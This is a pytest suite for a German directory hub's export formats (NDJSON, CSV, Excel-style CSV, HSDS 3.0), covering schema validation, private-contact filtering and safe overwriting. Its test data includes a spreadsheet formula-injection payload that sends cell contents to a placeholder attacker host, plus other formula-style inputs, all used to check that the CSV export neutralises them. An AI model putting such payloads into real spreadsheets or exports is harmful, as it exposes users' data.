"""Exports (NDJSON, CSV, HSDS 3.0 package) and the HSDS mapping, on SQLite and PostgreSQL.

The HSDS tests validate against the official schemas in ../shared/conformance/specs/hsds-3.0
and skip with a reason where that folder is absent."""

from __future__ import annotations

import datetime as dt
import json
import re
import uuid

import pytest
import sqlalchemy as sa

from hub import hsds
from hub.export import ExportError, export, read_csv, read_ndjson
from hub.models import CourseOffer, HousingVacancy, JobPosting
from hub.store.publish import publish_domain
from tests.hsds_schema import errors, require_specs

NOW = dt.datetime(2026, 11, 20, 8, 0, tzinfo=dt.timezone.utc)
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'


def _address(street, number, postal, city, ags=None, state=None):
    return {"street": street, "house_number": number, "postal_code": postal, "city": city,
            "municipality_key": ags, "state": state}


def sample_records() -> list:
    return [
        JobPosting(partner_id="jobcenter-nk", source_id="10001-1000000001-S", title="Koch (m/w/d)",
                   organisation="Saar Logistik GmbH", ba_reference="10001-1000000001-S",
                   address=_address("Bahnhofstraße", "3", "66538", "Neunkirchen", "10043111"),
                   geo={"lat": 49.3447, "lon": 7.1802}, url="https://jobs.example/1",
                   working_time=["full_time", "shift"], contract_duration="permanent",
                   german_level="B1", salary_min=2800, salary_max=3200, salary_period="month",
                   start_date="2026-12-01", updated_at="2026-11-01T08:00:00+01:00"),
        JobPosting(partner_id="jobcenter-nk", source_id="10001-1000000002-S", title=FORMULA,
                   organisation="@Evil Corp", address=_address(None, None, "66564", "Ottweiler"),
                   description="-5 Grad im Kühlhaus", salary_min=14.5, salary_period="hour"),
        JobPosting(partner_id="pflege-nk", source_id="P-7", title="Pflegefachkraft (m/w/d)",
                   address=_address("Hauptstr.", "8-10", "66557", "Illingen")),  # no organisation
        CourseOffer(partner_id="vhs-neunkirchen", source_id="VHS-IK-1", title="Integrationskurs mit Kinderbetreuung",
                    organisation="VHS Neunkirchen", course_type="integration_course", cefr_levels=["A1", "A2", "B1"],
                    address=_address("Schloßstraße", "8", "66564", "Ottweiler", "10043115"),
                    start_date="2027-01-11", end_date="2027-10-15", schedule=["part_time", "evening"],
                    childcare=True, price_eur=0, funded=True, seats=4,
                    contact={"name": "Frau Schmitt", "email": "kurse@vhs.example", "phone": "06821 94082",
                             "public": True}),
        CourseOffer(partner_id="vhs-neunkirchen", source_id="VHS-B2-2", title="Deutsch B2 online",
                    organisation="VHS Neunkirchen", course_type="job_language_course", cefr_levels=["B2"],
                    address=_address("Lindenallee", "13", "66538", "Neunkirchen"), schedule=["online"],
                    price_eur=320.0, contact={"name": "Herr Privat", "email": "privat@example.org", "public": False}),
        HousingVacancy(partner_id="gemeinde-eppelborn", source_id="EPB-WHG-042",
                       title="Barrierefreie 1-Zimmer-Wohnung", organisation="Gemeinde Eppelborn",
                       address=_address("Dirminger Straße", "35", "66571", "Eppelborn", "10043111", "Saarland"),
                       geo={"lat": 49.40004, "lon": 6.966266}, rooms=1, living_area=35.29, cold_rent=186.5,
                       warm_rent=320.5, service_charges=87, heating_costs=47, deposit=559.5,
                       available_from_text="sofort", wbs_required=True, barrier_free=True, floor=-1),
    ]


def fill(engine, records=None) -> dict[str, dict]:
    """Stage canonical records as active source records and publish every domain; returns the
    directory entries by entity id."""
    from hub.store.staging import record_hash
    from hub.store.tables import directory, source_records

    rows = []
    for record in records or sample_records():
        data = record.model_dump(mode="json")
        rows.append({"domain": record.domain.value, "partner_id": record.partner_id,
                     "source_id": record.source_id, "record": data, "content_hash": record_hash(data),
                     "status": "active", "first_seen": NOW, "last_seen": NOW, "sync_id": None})
    with engine.begin() as conn:
        conn.execute(source_records.insert(), rows)
    for domain in ("jobs", "courses", "housing"):
        publish_domain(engine, domain, now=NOW)
    with engine.connect() as conn:
        return {r.entity_id: r.entry for r in conn.execute(sa.select(directory.c.entity_id, directory.c.entry))}


def _by_title(entries: dict[str, dict], title: str) -> dict:
    return next(e for e in entries.values() if e["title"] == title)


# ----------------------------------------------------------------------------- HSDS


def test_hsds_package_validates_and_links_up(engine, tmp_path):
    require_specs()
    entries = fill(engine)
    out = tmp_path / "hsds"
    counts = export(engine, "hsds", out, partner_names={"pflege-nk": "Pflegedienst Illtal"})
    tables = {name: json.loads((out / f"{name}.json").read_text(encoding="utf-8")) for name in hsds.TABLES}
    assert counts == {f"{name}.json": len(rows) for name, rows in tables.items()}
    for name, rows in tables.items():
        for row in rows:
            # strict: also no property the specification does not define
            assert errors(row, hsds.TABLE_SCHEMAS[name], strict=True) == [], (name, row)

    assert len(tables["services"]) == len(entries) == 6
    ids = {name: {r["id"] for r in rows} for name, rows in tables.items()}
    for name, rows in tables.items():
        assert len(ids[name]) == len(rows), f"duplicate ids in {name}"
    assert {s["organization_id"] for s in tables["services"]} <= ids["organizations"]
    for sal in tables["service_at_locations"]:
        assert sal["service_id"] in ids["services"] and sal["location_id"] in ids["locations"]
    assert {a["location_id"] for a in tables["addresses"]} == ids["locations"]
    # the barrier-free flat's location says so where HSDS readers look for it
    flat = next(s for s in tables["services"] if s["name"] == "Barrierefreie 1-Zimmer-Wohnung")
    flat_location = next(sal["location_id"] for sal in tables["service_at_locations"] if sal["service_id"] == flat["id"])
    assert [(a["location_id"], a["description"]) for a in tables["accessibility"]] == [
        (flat_location, "Barrierefrei (nach Angabe des Anbieters)")]
    assert {a["taxonomy_term_id"] for a in tables["attributes"]} <= ids["taxonomy_terms"]
    assert {a["link_id"] for a in tables["attributes"]} <= ids["services"] | ids["organizations"]
    assert {t["taxonomy_id"] for t in tables["taxonomy_terms"]} == ids["taxonomies"]
    for table in ("schedules", "cost_options", "languages", "contacts"):
        assert {r["service_id"] for r in tables[table]} <= ids["services"]

    # last_modified is when the entry changed in the directory (the publication at NOW), as
    # modified_after in the API filters; the partner's own time stays as an attribute
    assert {s["last_modified"] for s in tables["services"]} == {"2026-11-20T08:00:00.000+00:00"}
    koch = next(s for s in tables["services"] if s["name"] == "Koch (m/w/d)")
    source_times = [a["value"] for a in tables["attributes"] if a["link_id"] == koch["id"]
                    and a["taxonomy_term_id"] == hsds.TERMS["welcome-hub:hub.source_updated_at"]["id"]]
    assert source_times == ["2026-11-01T08:00:00+01:00"]

    orgs = {o["name"]: o for o in tables["organizations"]}
    assert set(orgs) == {"Saar Logistik GmbH", "@Evil Corp", "Pflegedienst Illtal", "VHS Neunkirchen",
                         "Gemeinde Eppelborn"}
    assert "Kursanbieter" in orgs["VHS Neunkirchen"]["description"]

    package = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
    assert package["hsds_version"] == "3.0"
    assert {r["path"]: r["rows"] for r in package["resources"]} == counts
    assert json.loads((out / "export.json").read_text())["format"] == "hsds"


def test_hsds_mapping_of_courses_jobs_and_flats():
    require_specs()
    from hub.resolve import build_entry

    entries = {}
    for n, record in enumerate(sample_records()):
        data = record.model_dump(mode="json")
        entries[record.title] = build_entry(record.domain.value, f"e-{n}",
                                            [(record.partner_id, record.source_id, data, NOW)])

    course = hsds.service(entries["Integrationskurs mit Kinderbetreuung"])
    assert errors(course, "service.json", strict=True) == []
    assert uuid.UUID(course["id"]).version == 5
    assert course["id"] == str(uuid.uuid5(hsds.NAMESPACE, "service:e-3"))
    assert course["id"] == hsds.service_id("e-3") == hsds.service(entries["Integrationskurs mit Kinderbetreuung"])["id"]
    codes = {(a["taxonomy_term"]["taxonomy"], a["taxonomy_term"]["code"], a.get("value")) for a in course["attributes"]}
    assert ("Welcome Hub", "course_type.integration_course", None) in codes
    assert {("GER / CEFR", lv, None) for lv in ("A1", "A2", "B1")} <= codes
    assert ("Welcome Hub", "course.childcare", "true") in codes
    assert course["schedules"][0]["valid_from"] == "2027-01-11"
    assert course["schedules"][0]["valid_to"] == "2027-10-15"
    # texts for people are written as German readers write them
    assert course["schedules"][0]["description"].endswith("(11.01.2027 bis 15.10.2027)")
    for dates, said in ((("2027-01-11", None), "Teilzeit, Abendkurs (ab 11.01.2027)"),
                        ((None, "2027-10-15"), "Teilzeit, Abendkurs (bis 15.10.2027)")):
        open_ended = {**entries["Integrationskurs mit Kinderbetreuung"], "start_date": dates[0], "end_date": dates[1]}
        assert hsds.service(open_ended)["schedules"][0]["description"] == said
    assert course["fees_description"] == "kostenlos oder gefördert (BAMF, Bildungsgutschein)"
    assert course["cost_options"] == [{
        "id": course["cost_options"][0]["id"], "service_id": course["id"], "option": "Kursgebühr",
        "currency": "EUR", "amount": 0.0, "amount_description": "gefördert (BAMF, Bildungsgutschein)"}]
    assert course["languages"][0]["code"] == "de"
    assert (course["languages"][0]["name"]) == "Deutsch"
    # a course taught in Dutch is named so; a code the hub has no name for is not given as a name
    for code, name in (("nl", "Niederländisch"), ("ku", "Kurdisch"), ("xh", None)):
        languages = hsds.service({**entries["Deutsch B2 online"], "language": code})["languages"]
        assert errors(languages[0], "language.json", strict=True) == []
        assert (languages[0]["code"], languages[0].get("name")) == (code, name)
    assert course["contacts"][0]["email"] == "kurse@vhs.example"
    assert [(p["number"], p["type"]) for p in course["contacts"][0]["phones"]] == [("06821 94082", "voice")]
    for mobile in ("0171 2345678", "+49 (0)160 1234567", "+49 151 2345678"):
        public = {**entries["Integrationskurs mit Kinderbetreuung"]["contact"], "phone": mobile}
        phones = hsds.service({**entries["Integrationskurs mit Kinderbetreuung"], "contact": public})["contacts"][0]["phones"]
        assert [p["type"] for p in phones] == ["cell"], mobile  # RFC 6350: a reader's app may offer a text
    address = course["service_at_locations"][0]["location"]["addresses"][0]
    assert (address["address_1"], address["postal_code"], address["city"], address["country"],
            address["state_province"]) == ("Schloßstraße 8", "66564", "Ottweiler", "DE", "Saarland")

    online = hsds.service(entries["Deutsch B2 online"])
    assert "contacts" not in online and "email" not in online  # the contact is not public
    assert online["schedules"][0]["attending_type"] == "online"

    job = hsds.service(entries["Koch (m/w/d)"])
    assert errors(job, "service.json", strict=True) == []
    values = {a["taxonomy_term"]["code"]: a.get("value") for a in job["attributes"]}
    assert values["domain.jobs"] is None and values["job.salary_min"] == "2800"
    assert values["job.ba_reference"] == "10001-1000000001-S" and "working_time.shift" in values
    assert job["organization"]["name"] == "Saar Logistik GmbH"
    location = job["service_at_locations"][0]["location"]
    assert (location["latitude"], location["longitude"]) == (49.3447, 7.1802)
    assert location["external_identifier_type"] == "AGS"

    # an attribute keeps its id when its value changes (a reader loading by id replaces the old
    # seats instead of keeping both); the sources, several per entry, are told apart by value
    fewer = hsds.service({**entries["Integrationskurs mit Kinderbetreuung"], "seats": 3})
    seats = lambda s: [(a["id"], a["value"]) for a in s["attributes"] if a["taxonomy_term"]["code"] == "course.seats"]
    assert [i for i, _ in seats(fewer)] == [i for i, _ in seats(course)]
    assert (seats(course)[0][1], seats(fewer)[0][1]) == ("4", "3")
    merged = {**entries["Koch (m/w/d)"], "sources": [{"partner_id": "jobcenter-nk", "source_id": "A"},
                                                     {"partner_id": "saar-logistik", "source_id": "B"}]}
    source_ids = [a["id"] for a in hsds.service(merged)["attributes"] if a["taxonomy_term"]["code"] == "hub.source"]
    assert len(source_ids) == len(set(source_ids)) == 2

    # who may take the offer, in the field a service finder shows as eligibility
    assert job["eligibility_description"] == "Deutschkenntnisse mindestens B1"
    assert "eligibility_description" not in course
    no_german = build_entry("jobs", "e-9", [("pflege-nk", "P-8", {
        **sample_records()[2].model_dump(mode="json"), "german_required": False}, NOW)])
    assert hsds.service(no_german)["eligibility_description"] == "Keine Deutschkenntnisse erforderlich"

    flat = hsds.service(entries["Barrierefreie 1-Zimmer-Wohnung"])
    assert errors(flat, "service.json", strict=True) == []
    assert flat["eligibility_description"] == "Nur mit Wohnberechtigungsschein (WBS)"
    family = build_entry("housing", "e-10", [("gemeinde-eppelborn", "EPB-2", {
        **sample_records()[5].model_dump(mode="json"), "wbs_required": False, "max_persons": 4}, NOW)])
    assert hsds.service(family)["eligibility_description"] == "für höchstens 4 Personen"
    rents = {c["option"]: c["amount"] for c in flat["cost_options"]}
    assert rents == {"Kaltmiete": 186.5, "Warmmiete": 320.5, "Nebenkosten": 87.0, "Heizkosten": 47.0,
                     "Kaution": 559.5}
    assert flat["fees_description"] == "Kaltmiete 186,50 € im Monat, warm 320,50 €"
    values = {a["taxonomy_term"]["code"]: a.get("value") for a in flat["attributes"]}
    assert values["housing.rooms"] == "1" and values["housing.wbs_required"] == "true"
    assert values["housing.floor"] == "-1" and values["property_type.apartment"] is None
    flat_location = flat["service_at_locations"][0]["location"]
    assert [a["description"] for a in flat_location["accessibility"]] == ["Barrierefrei (nach Angabe des Anbieters)"]
    assert "accessibility" not in job["service_at_locations"][0]["location"]

    street_less = hsds.location(entries[FORMULA])
    assert errors(street_less, "location.json", strict=True) == []
    assert street_less["addresses"][0]["address_1"] == ""
    assert street_less["addresses"][0]["state_province"] == "Saarland"  # from the postal code


def test_the_validator_rejects_broken_objects():
    """The schema check must catch a wrong mapping, not wave everything through."""
    require_specs()
    from hub.resolve import build_entry

    record = sample_records()[3]
    entry = build_entry("courses", "e-1", [(record.partner_id, record.source_id, record.model_dump(mode="json"), NOW)])
    good = hsds.service(entry)
    assert errors(good, "service.json") == []

    def broken(mutate) -> list[str]:
        obj = json.loads(json.dumps(good))
        mutate(obj)
        return errors(obj, "service.json")

    assert any("'name' is a required property" in e for e in broken(lambda s: s.pop("name")))
    assert any("status" in e for e in broken(lambda s: s.update(status="open")))
    assert any("uuid" in e for e in broken(lambda s: s.update(id="course-123")))
    assert any("uri" in e for e in broken(lambda s: s.update(url="not a url")))
    assert any("date-time" in e for e in broken(lambda s: s.update(last_modified="2026-11-22")))
    assert any("None is not of type" in e for e in broken(lambda s: s.update(description=None)))
    assert any("description" in e for e in broken(lambda s: s["organization"].pop("description")))
    address = ["service_at_locations", 0, "location", "addresses", 0]
    assert any("state_province" in e for e in broken(lambda s: s["service_at_locations"][0]["location"]
                                                     ["addresses"][0].pop("state_province")))
    assert any("/".join(map(str, address)) in e for e in broken(
        lambda s: s["service_at_locations"][0]["location"]["addresses"][0].update(postal_code=66564)))
    # a field under a wrong name passes the official schema but not the strict check
    renamed = json.loads(json.dumps(good))
    renamed["service_at_locations"][0]["location"]["addresses"][0]["zip"] = "66564"
    assert errors(renamed, "service.json") == []
    assert any("zip" in e for e in errors(renamed, "service.json", strict=True))


# ----------------------------------------------------------------------------- NDJSON, CSV


def test_ndjson_round_trip(engine, tmp_path):
    entries = fill(engine)
    counts = export(engine, "ndjson", tmp_path / "out")
    assert counts == {"jobs.ndjson": 3, "courses.ndjson": 2, "housing.ndjson": 1}
    back = {}
    for name in counts:
        for entry in read_ndjson(tmp_path / "out" / name):
            assert entry["domain"] == name.split(".")[0]
            back[entry["id"]] = entry
    assert back == entries
    text = (tmp_path / "out" / "courses.ndjson").read_text(encoding="utf-8")
    assert "Schloßstraße" in text  # UTF-8, not \u escapes
    assert len(text.splitlines()) == 2


def test_every_requested_domain_gets_its_file_even_when_empty(engine, tmp_path):
    fill(engine, [r for r in sample_records() if r.domain.value != "courses"])
    counts = export(engine, "csv", tmp_path / "out")
    assert counts == {"courses.csv": 0, "housing.csv": 1, "jobs.csv": 3}
    assert read_csv(tmp_path / "out" / "courses.csv") == []
    assert export(engine, "ndjson", tmp_path / "nd", domains=["jobs", "courses"]) == {
        "courses.ndjson": 0, "jobs.ndjson": 3}


def test_csv_neutralises_formulas_in_text_cells_only(engine, tmp_path):
    fill(engine)
    export(engine, "csv", tmp_path / "out", domains=["jobs", "housing"])
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["export.json", "housing.csv", "jobs.csv"]
    raw = (tmp_path / "out" / "jobs.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM
    jobs = {r["id"]: r for r in read_csv(tmp_path / "out" / "jobs.csv")}
    evil = next(r for r in jobs.values() if "HYPERLINK" in r["title"])
    assert evil["title"] == "'" + FORMULA
    assert evil["organisation"] == "'@Evil Corp"
    assert evil["description"] == "'-5 Grad im Kühlhaus"
    assert evil["salary_min"] == "14.5" and evil["street"] == ""
    koch = next(r for r in jobs.values() if r["title"] == "Koch (m/w/d)")
    assert koch["working_time"] == "full_time|shift"
    assert koch["postal_code"] == "66538" and koch["sources"] == "jobcenter-nk/10001-1000000001-S"
    for row in jobs.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "@")), value
    flat = read_csv(tmp_path / "out" / "housing.csv")[0]
    assert flat["floor"] == "-1"  # a number is never neutralised
    assert flat["cold_rent"] == "186.5" and flat["wbs_required"] == "true"


def test_csv_excel_opens_in_german_excel_as_it_is_meant(engine, tmp_path):
    """An advisor double-clicks the export in Excel set to German: the comma-separated file
    fell into one column, '186.5' was text and '2.5' rooms the 2nd of May, postal codes lost
    their leading zero. csv-excel is ';'-separated with decimal commas and keeps the texts
    Excel would turn into numbers or dates as text formulas; days stay ISO (a date in Excel)."""
    import csv as csvmodule

    records = sample_records()
    records.append(HousingVacancy(
        partner_id="wbg-dd", source_id="DD-1", title="2,5-Zimmer-Wohnung", rooms=2.5, warm_rent=605.5,
        address=_address("Altmarkt", "8-10", "01067", "Dresden", "14612000", "Sachsen"),
        available_from="2026-12-01", contact={"phone": "0351123456", "public": True}))
    fill(engine, records)
    export(engine, "csv-excel", tmp_path / "out")
    raw = (tmp_path / "out" / "housing.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel shows the umlauts
    text = raw.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("id;domain;title;")  # Excel's German separator
    rows = {r["title"]: r for r in csvmodule.DictReader(text.splitlines(), delimiter=";")}
    dd = rows["2,5-Zimmer-Wohnung"]
    assert dd["rooms"] == "2,5" and dd["warm_rent"] == "605,5" and dd["lat"] == ""
    assert dd["postal_code"] == '="01067"' and dd["house_number"] == '="8-10"'
    assert dd["municipality_key"] == '="14612000"' and dd["contact_phone"] == '="0351123456"'
    assert dd["available_from"] == "2026-12-01" and dd["city"] == "Dresden"
    epb = rows["Barrierefreie 1-Zimmer-Wohnung"]
    assert epb["cold_rent"] == "186,5" and epb["lat"] == "49,40004" and epb["floor"] == "-1"
    assert epb["wbs_required"] == "true" and epb["available_from_text"] == "sofort"
    jobs = list(csvmodule.DictReader((tmp_path / "out" / "jobs.csv").read_text(encoding="utf-8-sig")
                                     .splitlines(), delimiter=";"))
    evil = next(r for r in jobs if "HYPERLINK" in r["title"])
    assert evil["title"] == "'" + FORMULA and evil["description"] == "'-5 Grad im Kühlhaus"
    courses = {r["title"]: r for r in csvmodule.DictReader(
        (tmp_path / "out" / "courses.csv").read_text(encoding="utf-8-sig").splitlines(), delimiter=";")}
    assert courses["Integrationskurs mit Kinderbetreuung"]["seats"] == "4"  # a whole number as it is
    assert courses["Integrationskurs mit Kinderbetreuung"]["schedule"] == "part_time|evening"
    # every text formula holds nothing but a number's signs: nothing a spreadsheet could run
    for row in [*rows.values(), *jobs, *courses.values()]:
        for value in row.values():
            if value.startswith("="):
                assert re.fullmatch(r'="[0-9 ()./+-]+"', value), value
    # the same folder takes the next export, of either kind
    assert export(engine, "csv-excel", tmp_path / "out")["housing.csv"] == 2
    assert export(engine, "csv", tmp_path / "out")["housing.csv"] == 2
    assert {r["title"]: r["rooms"] for r in read_csv(tmp_path / "out" / "housing.csv")}["2,5-Zimmer-Wohnung"] == "2.5"


def test_csv_leaves_out_contacts_that_are_not_public(engine, tmp_path):
    fill(engine)
    export(engine, "csv", tmp_path / "out", domains=["courses"])
    rows = {r["title"]: r for r in read_csv(tmp_path / "out" / "courses.csv")}
    assert rows["Integrationskurs mit Kinderbetreuung"]["contact_email"] == "kurse@vhs.example"
    assert rows["Deutsch B2 online"]["contact_email"] == ""
    assert "privat@example.org" not in (tmp_path / "out" / "courses.csv").read_text(encoding="utf-8-sig")


# ----------------------------------------------------------------------------- atomic writes


def test_a_failed_export_leaves_the_previous_one_and_no_debris(engine, tmp_path, monkeypatch):
    fill(engine)
    out = tmp_path / "exports" / "hsds"
    export(engine, "hsds", out)
    before = {p.name: p.read_bytes() for p in out.iterdir()}

    calls = []

    def exploding(entry, partner_names=None, modified=None, seen_locations=None):
        calls.append(1)
        if len(calls) > 3:
            raise RuntimeError("disk on fire")
        yield from original(entry, partner_names, modified, seen_locations)

    original = hsds.entry_rows
    monkeypatch.setattr(hsds, "entry_rows", exploding)
    with pytest.raises(RuntimeError):
        export(engine, "hsds", out)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert [p.name for p in out.parent.iterdir()] == ["hsds"]  # no temporary folder left behind

    monkeypatch.setattr(hsds, "entry_rows", original)
    export(engine, "ndjson", out)  # a previous export is replaced as a whole
    assert sorted(p.name for p in out.iterdir()) == ["courses.ndjson", "export.json", "housing.ndjson", "jobs.ndjson"]


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_export_refuses_folders_it_must_not_touch(engine, tmp_path):
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "thesis.txt").write_text("keep me")
    with pytest.raises(ExportError, match="not empty"):
        export(engine, "ndjson", tmp_path / "mine")
    assert (tmp_path / "mine" / "thesis.txt").read_text() == "keep me"
    (tmp_path / "file").write_text("x")
    with pytest.raises(ExportError, match="not a folder"):
        export(engine, "csv", tmp_path / "file")
    with pytest.raises(ExportError, match="cannot write"):
        export(engine, "csv", tmp_path / "file" / "sub")
    with pytest.raises(ExportError, match="unknown domain"):
        export(engine, "csv", tmp_path / "new", domains=["cars"])
    assert not (tmp_path / "new").exists()
    export(engine, "csv", tmp_path / "empty")  # an empty directory exports empty files
    assert (tmp_path / "empty" / "jobs.csv").read_text(encoding="utf-8-sig").startswith("id,domain,title")


# ----------------------------------------------------------------------------- the command


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_hub_export_command(engine, db_url, tmp_path, monkeypatch, capsys):
    from hub.cli import main

    fill(engine)
    monkeypatch.setenv("HUB_DATABASE_URL", db_url)
    monkeypatch.setenv("HUB_HOME", str(tmp_path / "home"))
    assert main(["export", "--format", "ndjson", "--out", str(tmp_path / "nd"), "--domain", "courses"]) == 0
    out = capsys.readouterr().out
    assert "courses.ndjson: 2" in out
    assert [e["domain"] for e in read_ndjson(tmp_path / "nd" / "courses.ndjson")] == ["courses", "courses"]
    assert not (tmp_path / "nd" / "jobs.ndjson").exists()

    (tmp_path / "blocker").write_text("x")
    assert main(["export", "--format", "csv", "--out", str(tmp_path / "blocker" / "out")]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith("hub export: error:") and len(err.splitlines()) == 1 and "Traceback" not in err

    assert main(["export", "--format", "csv-excel", "--out", str(tmp_path / "xl"), "--domain", "courses"]) == 0
    assert "courses.csv: 2" in capsys.readouterr().out
    assert (tmp_path / "xl" / "courses.csv").read_text(encoding="utf-8-sig").startswith("id;domain;")

    with pytest.raises(SystemExit) as exc:
        main(["export", "--format", "xlsx", "--out", str(tmp_path / "x")])
    assert exc.value.code == 2


def test_csv_keeps_a_cell_that_is_only_a_number_as_it_is():
    """'+49 6821 1234' holds no formula a spreadsheet could run: a program reading the file
    gets the phone number, not "'+49 ..."; a text with letters after '-' or '+' is guarded."""
    from hub.export import neutralise

    for plain in ("+49 6821 1234", "+49 (0) 6821 / 12 34-5", "-1", "-12.5", "0681 123"):
        assert neutralise(plain) == plain
    for text in ("-Keine Haustiere-", "+1+HYPERLINK(\"x\")", "=1+1", "@SUM(A1)", "-5 Grad", "+", "-"):
        assert neutralise(text) == "'" + text


def test_an_export_names_the_change_feed_item_to_follow_it_from(engine, tmp_path):
    """A portal loads an export, then keeps it up to date from the change feed: export.json
    names the newest change the export holds, and the changes after it are exactly what was
    published since."""
    from hub.store.tables import changes, source_records

    fill(engine)
    export(engine, "ndjson", tmp_path / "out")
    said = json.loads((tmp_path / "out" / "export.json").read_text())
    with engine.connect() as conn:
        newest = conn.execute(sa.select(sa.func.max(changes.c.seq))).scalar()
    assert said["changes_seq"] == newest > 0
    with engine.begin() as conn:
        conn.execute(source_records.update().where(source_records.c.source_id == "P-7")
                     .values(status="withdrawn"))
    publish_domain(engine, "jobs", now=NOW)
    with engine.connect() as conn:
        since = conn.execute(sa.select(changes.c.entity_id, changes.c.op)
                             .where(changes.c.seq > said["changes_seq"])).all()
    exported = {e["id"] for e in read_ndjson(tmp_path / "out" / "jobs.ndjson")}
    assert [op for _, op in since] == ["deleted"] and since[0][0] in exported
    # the feed's checkpoint at changes_seq, which the read API takes with it
    from hub.api.app import ApiSettings, create_app
    from fastapi.testclient import TestClient

    with TestClient(create_app(engine, ApiSettings())) as c:
        polled = c.get(f"/v1/changes?after={said['changes_seq']}&checkpoint={said['changes_checkpoint']}")
        assert polled.status_code == 200, polled.text
        assert [i["op"] for i in polled.json()["items"]] == ["deleted"]
        first = c.get(f"/v1/changes?after=0&limit={said['changes_seq']}").json()
        assert first["checkpoint"] == said["changes_checkpoint"]


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_export_refuses_a_folder_with_files_an_export_did_not_write(engine, tmp_path):
    """An export replaces its folder as a whole: a steward's file put into an earlier export,
    or a folder whose export.json is another program's, is refused, and nothing is deleted."""
    out = tmp_path / "hsds"
    export(engine, "hsds", out)
    (out / "notes.txt").write_text("keep me")
    with pytest.raises(ExportError, match=r"holds files no export of the hub wrote \(notes.txt\)"):
        export(engine, "csv", out)
    assert (out / "notes.txt").read_text() == "keep me" and (out / "datapackage.json").exists()
    (out / "notes.txt").unlink()
    export(engine, "csv", out)  # only what the export wrote: replaced
    assert sorted(p.name for p in out.iterdir()) == ["courses.csv", "export.json", "housing.csv", "jobs.csv"]

    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "export.json").write_text('{"name": "my project"}')
    (mine / "thesis.txt").write_text("keep me")
    with pytest.raises(ExportError, match=r"\(export.json, thesis.txt\)"):
        export(engine, "ndjson", mine)
    assert sorted(p.name for p in mine.iterdir()) == ["export.json", "thesis.txt"]
